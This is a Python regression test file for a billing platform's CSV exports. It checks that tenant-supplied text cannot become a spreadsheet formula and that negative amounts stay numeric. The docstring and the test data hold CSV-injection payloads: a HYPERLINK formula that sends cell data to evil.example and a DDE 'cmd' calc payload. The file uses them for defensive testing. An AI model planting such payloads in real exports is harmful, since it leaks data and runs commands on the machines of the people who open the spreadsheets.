"""Session 15 review: CSV exports carry text a tenant chose (usage event properties such as ``user``, ``model``,
``operation``; reasons, business names) into the platform's finance spreadsheets unescaped. On the real stack
(namespace review15c) a tenant's own service token sent ``{"user": "=HYPERLINK(\\"http://evil.example/?x=\\"&A1,
\\"Open\\")"}`` with a usage event; ``GET /v1/reports/transactions?format=csv`` (finance) wrote the cell as
``=HYPERLINK(...)``, which a spreadsheet opens as a formula (CSV/formula injection, OWASP). A cell of text beginning
with ``=``, ``+``, ``-``, ``@`` (or a tab or carriage return) must be written so that it is read as text, while
numbers such as ``-0.01`` stay numbers. Fixed in session 15: ``exports`` escapes text cells (``NUMBER_COLUMNS``)."""

from __future__ import annotations

import csv
import io

from billing_projections.exports import csv_of


async def exported(columns: tuple[str, ...], items: list[dict[str, object]]) -> list[list[str]]:
    response = csv_of(columns, items, "transactions")
    text = "".join([chunk async for chunk in response.body_iterator])  # type: ignore[misc]
    return list(csv.reader(io.StringIO(text)))


async def test_a_tenants_text_never_becomes_a_spreadsheet_formula() -> None:
    attack = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'
    rows = await exported(("tenant", "amount", "user", "detail"), [
        {"tenant": "acme", "amount": "-0.01", "user": attack, "detail": "@SUM(1+1)*cmd|' /C calc'!A0"},
        {"tenant": "acme", "amount": "-2.50", "user": "+1+1", "detail": "-2+3"}])
    cells = [cell for row in rows[1:] for cell in (row[2], row[3])]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")], cells
    assert [row[1] for row in rows[1:]] == ["-0.01", "-2.50"]  # amounts stay numbers


def test_every_export_column_is_a_number_column_or_text() -> None:
    """A column added to an export is classified here: a number column's amounts stay numbers, and any other is
    text, escaped. An amount column left out of ``NUMBER_COLUMNS`` would export -5.00 as text ('-5.00)."""
    import billing_projections.api_accounts as accounts
    import billing_projections.api_reports as reports
    from billing_projections.exports import NUMBER_COLUMNS

    exported_columns = {column for module in (accounts, reports) for name, value in vars(module).items()
                        if name.endswith("_COLUMNS") and isinstance(value, tuple) for column in value}
    text = {"cadence", "cancel_at", "cancel_at_period_end", "cancel_reason", "canceled_at", "cause", "complete",
            "currency", "detail", "document_type", "drawable_until", "due_date", "effective_at", "event_ids",
            "expires_at", "grant_id", "granted_by", "hold_id", "invoice_id", "issue_date", "key", "kind", "lines",
            "low_balance", "meter", "meter_name", "model", "number", "occurred_at", "opened_at", "operation",
            "paid_at", "paused_at", "payment_id", "payment_reference", "pdf_url", "period", "period_end",
            "period_start", "plan", "plan_name", "recorded_at", "reference", "scope", "source", "started_at",
            "status", "subscription_id", "tenant", "time_zone", "trial_end", "type", "unit", "unit_of_measure",
            "updated_at", "usage_type", "user", "voided_at"}
    assert exported_columns - NUMBER_COLUMNS == text


async def test_a_revenue_csv_keeps_its_negative_amounts_and_escapes_its_text() -> None:
    from billing_projections.exports import csv_text

    rows = list(csv.reader(io.StringIO(csv_text(("tenant", "adjustments", "revenue_other"),
                                                [{"tenant": "-acme", "adjustments": "-5.00", "revenue_other": "-1"}]))))
    assert rows == [["tenant", "adjustments", "revenue_other"], ["'-acme", "-5.00", "-1"]]
